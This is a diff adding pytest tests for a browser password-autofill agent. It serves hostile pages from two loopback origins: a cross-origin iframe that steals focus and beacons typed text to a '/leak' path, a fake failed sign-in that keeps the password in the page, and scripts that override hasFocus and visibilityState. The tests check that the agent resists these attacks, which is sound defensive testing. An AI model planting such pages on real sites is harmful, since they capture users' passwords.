@@ -151,3 +151,91 @@ def test_an_unknown_field_or_option_is_form_changed(host: BrowserHost, site: dic
     goto(host, base + "/hostile/canvas")
     assert host.fill(FillRequest(credential_origin=base,
                                  fields=[{"field_id": "password", "value": PASSWORD}])).outcome == "no_form"
+
+
+# -- pages that attack the fill, served on two loopback origins of ours ------------------------------------
+ATTACKS = {
+    # a frame of another origin that takes the focus again and again and reports what is typed into it
+    "/iframe-login": '<h1>Sign in</h1><form action="/done" method="post"><label>Password <input type=password '
+                     'id=password name=password></label><button>Sign in</button></form>'
+                     '<iframe src="{OTHER}/thief" width=300 height=100></iframe>',
+    "/thief": "<input id=x autofocus><script>const x = document.getElementById('x');"
+              "x.addEventListener('input', () => new Image().src = '/leak?v=' + encodeURIComponent(x.value));"
+              "setInterval(() => { if (document.activeElement !== x || !document.hasFocus()) x.focus(); }, 0);</script>",
+    # a failed sign-in that only changes the URL: the document, and the value in it, stay
+    "/push-login": '<h1>Sign in</h1><form id=f action="/done"><label>Password <input type=password id=password '
+                   'name=password></label><button type=submit>Sign in</button></form><script>'
+                   "f.addEventListener('submit', e => { e.preventDefault(); history.pushState({}, '', '/push-login?failed=1'); });"
+                   "</script>",
+    # the page's own world answers the DOM's questions with 20 MB, or lies about being shown
+    "/huge": "<h1>Sign in</h1><form><input type=password id=password></form><script>"
+             "const big = 'x'.repeat(20 * 1024 * 1024); Document.prototype.hasFocus = function () { return big; };</script>",
+    "/liar": "<h1>Sign in</h1><form><label>Password <input type=password id=password></label></form><script>"
+             "Object.defineProperty(Document.prototype, 'visibilityState', {get() { return 'visible'; }});"
+             "Document.prototype.hasFocus = () => true;</script>",
+}
+
+
+@pytest.fixture(scope="module")
+def attacker() -> Iterator[dict[str, Any]]:
+    """Two origins of ours (127.0.0.1 and 127.0.0.2, ephemeral ports) serving :data:`ATTACKS`; ``leaks``
+    collects the paths a page reported to."""
+    import http.server
+    import threading
+
+    state: dict[str, Any] = {"leaks": []}
+
+    class Handler(http.server.BaseHTTPRequestHandler):
+        def log_message(self, *_: Any) -> None:
+            pass
+
+        def do_GET(self) -> None:
+            path = self.path.split("?")[0]
+            if path == "/leak":
+                state["leaks"].append(self.path)
+            body = ATTACKS.get(path, "<p>done</p>").replace("{OTHER}", state["other"]).encode()
+            self.send_response(200)
+            self.send_header("Content-Type", "text/html")
+            self.send_header("Content-Length", str(len(body)))
+            self.end_headers()
+            self.wfile.write(body)
+        do_POST = do_GET
+
+    servers = [http.server.ThreadingHTTPServer((host, 0), Handler) for host in ("127.0.0.1", "127.0.0.2")]
+    for server in servers:
+        threading.Thread(target=server.serve_forever, daemon=True).start()
+    state["base"], state["other"] = (f"http://{s.server_address[0]}:{s.server_address[1]}" for s in servers)
+    yield state
+    for server in servers:
+        server.shutdown()
+
+
+def test_a_frame_of_another_origin_that_takes_the_focus_gets_nothing(host: BrowserHost, attacker: dict[str, Any]) -> None:
+    base = attacker["base"]
+    goto(host, base + "/iframe-login")
+    result = host.fill(FillRequest(credential_origin=base, fields=[{"field_id": "password", "value": PASSWORD}]))
+    assert result.outcome == "submitted"
+    assert wait_until(lambda: host.signin_page().form is None, 5, 0.1)  # the page moved on: /done
+    assert attacker["leaks"] == []
+
+
+def test_a_failed_sign_in_that_only_changes_the_url_keeps_no_value(host: BrowserHost, attacker: dict[str, Any]) -> None:
+    base = attacker["base"]
+    goto(host, base + "/push-login")
+    result = host.fill(FillRequest(credential_origin=base, fields=[{"field_id": "password", "value": PASSWORD}]))
+    assert (result.outcome, result.navigated) == ("submitted", False)
+    pipe = host._channel()
+    length = pipe.call("Runtime.evaluate", {"expression": "document.getElementById('password').value.length",
+                                            "returnByValue": True}, session_id=host._active_page(pipe))
+    assert length["result"]["value"] == 0
+
+
+def test_a_page_cannot_cut_the_agent_off_or_pose_as_the_tab_in_front(host: BrowserHost, attacker: dict[str, Any]) -> None:
+    base = attacker["base"]
+    goto(host, base + "/huge")
+    assert host.signin_page().form is not None and host.status()["running"]
+    goto(host, base + "/")
+    pipe = host._channel()
+    pipe.call("Target.createTarget", {"url": attacker["other"] + "/liar", "background": True})
+    assert wait_until(lambda: len([t for t in pipe.call("Target.getTargets")["targetInfos"] if t["type"] == "page"]) == 2, 10, 0.1)
+    assert host.signin_page().origin == base
